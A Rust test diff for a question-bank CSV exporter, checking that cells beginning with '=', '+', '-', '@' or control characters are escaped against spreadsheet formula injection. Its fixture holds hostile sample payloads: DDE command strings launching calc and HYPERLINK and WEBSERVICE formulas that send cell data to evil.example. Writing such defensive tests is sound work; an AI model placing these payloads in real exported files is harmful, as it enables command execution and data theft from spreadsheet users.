@@ -81,7 +81,7 @@ fn note_fields(apkg: &Path, scratch: &Path) -> Vec<Vec<String>> {
 
 /// Every text column of the CSV export; `number`, `line` and `end_line`
 /// are written by qbank as digits.
-const CSV_TEXT_COLUMNS: [usize; 7] = [0, 2, 3, 4, 5, 8, 9];
+const CSV_TEXT_COLUMNS: [usize; 8] = [0, 2, 3, 4, 5, 8, 9, 14];
 
 const HOSTILE_BANK: &str = "# =cmd|' /C calc'!A0\n\n## 1. =HYPERLINK(\"http://evil.example/?\"&A1,\"click\") {#@evil-id}\n\n**Question:** =1+1\n\n**Answer:** +cmd|' /C calc'!A0\n\n**Analysis:** -2+3\n\n## 2. @SUM(A1:A9)\n\n**Question:** @x\n\n**Answer:**\n\n- a bullet list\n\n**Analysis:** =WEBSERVICE(\"http://evil.example\")\n\n## 3. +1\n\n**Question:** -1\n\n**Answer:**\n\n1. **=SUM(A1:A9):** +1\n";
 
@@ -102,9 +102,13 @@ fn csv_formula_prefixes_are_neutralised() {
         assert!(qbank_csv::needs_formula_escape(&cell), "{prefix:?}");
         assert_eq!(qbank_csv::escape_formula(&cell), format!("'{cell}"));
     }
-    for safe in ["1+1", "a=b", " =1", "'=1", "", "中文", "（=）"] {
+    for safe in ["1+1", "a=b", " =1", "'a", "", "中文", "（=）"] {
         assert!(!qbank_csv::needs_formula_escape(safe), "{safe:?}");
     }
+    // A cell that already starts like an escape gets one more apostrophe,
+    // so that `qbank import` takes exactly one off.
+    assert_eq!(qbank_csv::escape_formula("'=1"), "''=1");
+    assert_eq!(qbank_csv::unescape_formula("''=1"), "'=1");
 
     // Every text column through the binary: titles, bodies, the id, the
     // document title, and file names starting with each prefix (tab,
@@ -127,7 +131,10 @@ fn csv_formula_prefixes_are_neutralised() {
         for &col in &CSV_TEXT_COLUMNS {
             let cell = &row[col];
             assert!(
-                !qbank_csv::needs_formula_escape(cell),
+                !matches!(
+                    cell.as_bytes().first(),
+                    Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r' | b'\n')
+                ),
                 "column {col} starts like a formula: {cell:?}"
             );
             if let Some(rest) = cell.strip_prefix('\'') {
@@ -136,9 +143,10 @@ fn csv_formula_prefixes_are_neutralised() {
             }
         }
     }
-    // Each file: its name, 3 titles, 7 bodies (the list too), the id and
-    // the document title 3 times.
-    assert_eq!(dangerous, names.len() * (3 + 3 + 7 + 1 + 3), "{rows:?}");
+    // Each file: its name, 3 titles, 7 bodies (the list too), the id, the
+    // document title 3 times, and the sources of entries 2 and 3 (they
+    // start with the blank lines before them).
+    assert_eq!(dangerous, names.len() * (3 + 3 + 7 + 1 + 3 + 2), "{rows:?}");
 
     // --no-formula-escape: the cells verbatim (for data tools, not
     // spreadsheets).
